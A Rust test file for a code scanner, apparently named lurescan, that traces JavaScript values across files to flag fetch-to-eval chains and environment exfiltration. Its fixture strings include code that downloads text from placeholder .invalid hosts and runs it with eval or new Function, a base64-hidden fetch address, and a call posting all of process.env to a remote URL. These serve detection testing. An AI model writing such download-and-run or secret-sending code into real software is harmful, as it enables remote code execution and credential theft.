//! Values that lead through several files: what is told of them together, and what is not.

use std::fs;

use lurescan::finding::{Finding, Report, Severity};

use crate::case::scan_path;

fn scan(files: &[(&str, &str)]) -> Report {
    let folder = tempfile::tempdir().expect("a temporary folder");
    for (path, text) in files {
        let path = folder.path().join(path);
        fs::create_dir_all(path.parent().expect("a parent")).expect("the temporary folder can be written");
        fs::write(path, text).expect("the temporary folder can be written");
    }
    scan_path(folder.path())
}

fn weighty<'r>(report: &'r Report, rule: &str) -> Vec<&'r Finding> {
    report.findings.iter().filter(|f| f.rule == rule && f.severity >= Severity::Medium).collect()
}

/// The one finding of `rule`, and the files its chain leads through.
fn chain(files: &[(&str, &str)], rule: &str) -> (Finding, Vec<String>) {
    let report = scan(files);
    let found = weighty(&report, rule);
    assert_eq!(found.len(), 1, "{rule} in {files:?}: {:?}", report.findings);
    let mut through: Vec<String> = found[0].chain.iter().map(|step| step.path.clone()).collect();
    through.dedup();
    (found[0].clone(), through)
}

const RUNS: &str = "exports.run = (text) => { eval(text) };\n";
const FETCHES: &str = "exports.text = async () => (await fetch('https://a.invalid/x')).text();\n";
const MAIN: &str =
    "const { text } = require('./fetches');\nconst { run } = require('./runs');\ntext().then((t) => run(t));\n";

#[test]
fn what_one_file_fetches_and_another_runs_is_one_chain_through_three() {
    let files = [("fetches.js", FETCHES), ("runs.js", RUNS), ("main.js", MAIN)];
    let (finding, through) = chain(&files, "js-fetch-to-code");
    assert_eq!(finding.path, "runs.js");
    assert!(finding.message.contains("https://a.invalid/x"), "{}", finding.message);
    assert_eq!(through, ["fetches.js", "main.js", "runs.js"]);
    assert!(finding.chain.iter().all(|step| step.line >= 1 && !step.excerpt.is_empty()), "{:?}", finding.chain);
}

#[test]
fn an_imported_answer_that_becomes_code_is_told_where_it_does() {
    let main = "import { text } from './fetches.js';\nconst t = await text();\nnew Function(t)();\n";
    let fetches = "export async function text() { return (await fetch('https://a.invalid/x')).text(); }\n";
    let (finding, through) = chain(&[("fetches.ts", fetches), ("main.mjs", main)], "js-fetch-to-code");
    assert_eq!((finding.path.as_str(), finding.primary.line), ("main.mjs", 3));
    assert_eq!(through, ["fetches.ts", "main.mjs"]);
}

#[test]
fn what_is_exported_again_is_followed_to_where_it_comes_from() {
    let index = "export { text } from './fetches.js';\nexport * from './runs.js';\n";
    let fetches = "export async function text() { return (await fetch('https://a.invalid/x')).text(); }\n";
    let runs = "export const run = (text) => { eval(text) };\n";
    let main = "import { text, run } from './lib';\nrun(await text());\n";
    let files = [("lib/index.mjs", index), ("lib/fetches.js", fetches), ("lib/runs.js", runs), ("main.mjs", main)];
    assert_eq!(chain(&files, "js-fetch-to-code").0.path, "lib/runs.js");
}

#[test]
fn an_address_that_another_file_names_is_fixed() {
    let fetches = "exports.text = async (url) => (await fetch(url)).text();\n";
    let main = "const { text } = require('./fetches');\ntext('https://b.invalid/y').then((t) => eval(t));\n";
    let (finding, _) = chain(&[("fetches.js", fetches), ("main.js", main)], "js-fetch-to-code");
    assert!(finding.message.contains("https://b.invalid/y"), "{}", finding.message);
}

#[test]
fn an_encoded_address_in_settings_is_shown_decoded() {
    // https://c.invalid/z
    let encoded = "aHR0cHM6Ly9jLmludmFsaWQveg==";
    let main = |address: &str| {
        format!("{address}\nfetch(atob(address)).then((r) => r.text()).then((t) => require('./runs').run(t));\n")
    };
    let cases = [
        (".env", format!("PORT=1\nAPI=\"{encoded}\"\n"), main("const address = process.env.API;")),
        (
            "config.js",
            format!("module.exports = {{ api: '{encoded}' }};\n"),
            main("const address = require('./config').api;"),
        ),
        ("config.json", format!("{{\"api\": \"{encoded}\"}}"), main("const address = require('./config.json').api;")),
    ];
    for (path, settings, main) in &cases {
        let files = [(*path, settings.as_str()), ("main.js", main.as_str()), ("runs.js", RUNS)];
        let (finding, through) = chain(&files, "js-fetch-to-code");
        assert!(finding.message.contains("https://c.invalid/z"), "{path}: {}", finding.message);
        assert_eq!(through, [path, "main.js", "runs.js"], "{path}");
    }
}

#[test]
fn what_a_helper_sends_is_told_by_what_it_is_given() {
    let send = "exports.post = (url, body) => fetch(url, { method: 'POST', body });\n";
    let main = "const { post } = require('./send');\npost('https://d.invalid/c', JSON.stringify(process.env));\n";
    let (finding, through) = chain(&[("send.js", send), ("main.js", main)], "js-env-exfiltration");
    assert!(finding.message.contains("https://d.invalid/c"), "{}", finding.message);
    assert_eq!(through, ["main.js", "send.js"]);
}

#[test]
fn honest_modules_make_no_chain() {
    let api = "exports.load = async () => (await fetch('https://e.invalid/users')).json();\n";
    let render = "exports.render = (data) => new Function('data', 'return data.name')(data);\n";
    let shows = "const { load } = require('./api');\nconst { render } = require('./render');\nload().then((d) => console.log(render(d)));\n";
    let post = "exports.post = (url, body) => fetch(url, { method: 'POST', body });\n";
    let port = "const { post } = require('./post');\npost('https://e.invalid/port', { port: process.env.PORT });\n";
    let fetches =
        "exports.text = async () => (await fetch('https://e.invalid/x')).text();\nexports.name = () => 'x';\n";
    let other = "const { text, name } = require('./fetches');\nconst { run } = require('./runs');\ntext().then(console.log);\nrun(name());\n";
    let local = "exports.text = async () => (await fetch('http://localhost:3000/x')).text();\n";
    let cases: [&[(&str, &str)]; 5] = [
        &[("api.js", api), ("render.js", render), ("main.js", shows)],
        &[("post.js", post), ("main.js", port), (".env", "PORT=1\n")],
        &[("fetches.js", fetches), ("runs.js", RUNS), ("main.js", other)],
        &[("fetches.js", local), ("runs.js", RUNS), ("main.js", MAIN)],
        &[("fetches.js", FETCHES), ("runs.js", RUNS)],
    ];
    for files in cases {
        let report = scan(files);
        let found: Vec<_> = report.findings.iter().filter(|f| f.severity >= Severity::Medium).collect();
        assert!(found.is_empty(), "{files:?}: {found:?}");
    }
}

#[test]
fn specifiers_are_resolved_as_node_and_bundlers_do() {
    let cases = [
        ("./runs", "runs.js"),
        ("./runs.js", "runs.ts"),
        ("./runs", "runs/index.js"),
        ("./runs", "runs/index.ts"),
        ("../a/runs.cjs", "a/runs.cjs"),
        ("@/runs", "src/runs.ts"),
        ("~/lib/runs", "lib/runs.js"),
        ("#runs", "src/runs.js"),
    ];
    for (specifier, path) in cases {
        let main = format!(
            "const {{ run }} = require('{specifier}');\nfetch('https://a.invalid/x').then((r) => r.text()).then((t) => run(t));\n"
        );
        let main_path = if specifier.starts_with("../") { "b/main.js" } else { "main.js" };
        let (finding, _) = chain(&[(path, RUNS), (main_path, &main)], "js-fetch-to-code");
        assert_eq!(finding.path, path, "{specifier}");
    }
    let main =
        "const { run } = require('./pkg');\nfetch('https://a.invalid/x').then((r) => r.text()).then((t) => run(t));\n";
    for (manifest, path) in [
        ("{\"main\": \"./code/entry\"}", "pkg/code/entry.js"),
        ("{\"exports\": {\".\": {\"require\": \"./dist/entry.js\"}}}", "pkg/src/entry.ts"),
    ] {
        let files = [("pkg/package.json", manifest), (path, RUNS), ("main.js", main)];
        assert_eq!(chain(&files, "js-fetch-to-code").0.path, path, "{manifest}");
    }
}
